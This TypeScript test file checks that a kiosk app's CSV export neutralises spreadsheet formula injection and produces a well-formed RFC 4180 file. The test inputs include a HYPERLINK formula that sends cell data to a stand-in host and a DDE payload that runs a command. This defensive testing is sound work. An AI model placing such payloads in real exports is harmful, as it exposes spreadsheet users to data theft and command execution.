import { expect } from 'chai';
import { toCsv } from '../../src/kiosk/app/csv.js';
import { neutralise } from '../../src/lib/csvFormulas.js';

/** RFC 4180 read back: quoted cells, doubled quotes, CRLF between records. */
const parse = (text: string): string[][] => {
  const records: string[][] = [];
  let record: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i += 1) {
    const c = text[i];
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        cell += '"';
        i += 1;
      } else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') {
      record.push(cell);
      cell = '';
    } else if (c === '\r' && text[i + 1] === '\n') {
      record.push(cell);
      records.push(record);
      record = [];
      cell = '';
      i += 1;
    } else cell += c;
  }
  if (cell !== '' || record.length > 0) throw new Error('the file does not end with CRLF');
  return records;
};

describe('kiosk: CSV files for the admins', () => {
  it('neutralises every cell a spreadsheet would run as a formula', () => {
    for (const attack of [
      '=HYPERLINK("http://x.example/?"&A1,"clique")',
      '+1+2',
      '-1+2',
      '@SUM(A1:A9)',
      '\t=1',
      '\r=1',
      '  =1+1',
      '\u00a0=1',
      '\uff1d1+1',
      '\uff0b1',
      '\uff0d1',
      '\uff20SUM(A1)',
    ]) {
      expect(neutralise(attack), JSON.stringify(attack)).to.equal(`'${attack}`);
    }
  });

  it('leaves ordinary text alone, including signs after the first character', () => {
    for (const plain of [
      'João Pedro Araújo',
      'Ana-Lúcia',
      'a=b',
      '2026-11-26T19:05:00.000-03:00',
      '',
      "O'Neil",
    ]) {
      expect(neutralise(plain), plain).to.equal(plain);
    }
  });

  it('writes a BOM, a header, CRLF lines, and reads back cell for cell', () => {
    const header = ['child', 'note'];
    const rows = [
      ['João, "Jota"', 'linha 1\nlinha 2'],
      ["=cmd|' /C calc'!A0", 'ok; ponto e vírgula'],
      ['', '-'],
    ];
    const text = toCsv(header, rows);
    expect(text.startsWith('\ufeff"child","note"\r\n')).to.equal(true);
    expect(text.endsWith('\r\n')).to.equal(true);
    expect(parse(text.slice(1))).to.deep.equal([
      header,
      ['João, "Jota"', 'linha 1\nlinha 2'],
      ["'=cmd|' /C calc'!A0", 'ok; ponto e vírgula'],
      ['', "'-"],
    ]);
  });

  it('no cell of the file starts with a formula sign once read back', () => {
    const signs = ['=', '+', '-', '@'];
    const rows = signs.map((s) => [`${s}1`, `x${s}`, ` ${s}2`]);
    for (const cell of parse(toCsv(['a', 'b', 'c'], rows).slice(1)).flat()) {
      expect(
        signs.some((s) => cell.trimStart().startsWith(s)),
        cell,
      ).to.equal(false);
    }
  });
});
